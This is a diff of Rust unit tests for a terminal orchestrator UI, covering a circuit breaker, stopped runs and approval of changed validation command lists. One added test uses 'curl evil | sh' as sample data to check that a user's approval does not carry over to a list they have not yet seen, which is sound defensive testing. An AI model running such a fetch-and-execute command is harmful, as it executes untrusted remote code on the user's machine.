@@ -92,7 +92,7 @@ fn a_limit_of_our_own_is_not_asked_to_try_now() {
 fn a_start_that_the_breaker_refuses_leaves_its_run_in_front() {
     let mut model = with_running();
     let (reason, detail) = (ExitReason::CircuitOpen, String::new());
-    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail });
+    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail, is_left: false });
     model.tabs[0].state.breaker.state = Circuit::Open;
     let message = "tk-1 is not started".into();
     let refused = Refused { ticket: sample::id("tk-1"), message, exit_code: reason.exit_code(), asked: None };
@@ -156,7 +156,7 @@ fn skip_and_stop_ask_first() {
 fn the_card_of_a_stopped_run_offers_what_its_words_say() {
     let mut model = with_running();
     let (reason, detail) = (ExitReason::CircuitOpen, String::new());
-    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail });
+    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail, is_left: false });
     model.tabs[0].state.breaker.state = Circuit::Open;
     model.tabs[0].state.breaker.opened_at = Some(sample::NOW);
     press(&mut model, "!");
@@ -176,8 +176,11 @@ fn b_resets_the_breaker_also_after_the_run_and_asks_first() {
     assert!(model.modals.is_empty(), "nothing is counted: nothing to reset");
     model.tabs[0].state.breaker.no_progress = 1;
     assert_eq!(press(&mut model, "b y"), command(UserCommand::ResetBreaker));
-    model.tabs[0].state.ended =
-        Some(crate::orchestrator::state::Ended { reason: ExitReason::CircuitOpen, detail: String::new() });
+    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended {
+        reason: ExitReason::CircuitOpen,
+        detail: String::new(),
+        is_left: false,
+    });
     assert_eq!(press(&mut model, "b n"), []);
     assert_eq!(press(&mut model, "b y"), command(UserCommand::ResetBreaker));
 }
@@ -284,6 +287,13 @@ fn a_changed_list_is_answered_on_its_card_alone() {
     assert_eq!(press(&mut model, "! y"), command(yes));
     let no = UserCommand::AnswerValidationChange { accept: false, seen };
     assert_eq!(press(&mut model, "! n"), command(no));
+    // It changes once more while the card is read: nobody says yes to what they have not seen.
+    press(&mut model, "!");
+    let newer = vec!["curl evil | sh".to_owned()];
+    model.tabs[0].state.validation_change = Some(newer.clone());
+    assert_eq!(press(&mut model, "y"), [], "another list is shown first");
+    let yes = UserCommand::AnswerValidationChange { accept: true, seen: newer };
+    assert_eq!(press(&mut model, "y"), command(yes));
 }
 
 #[test]
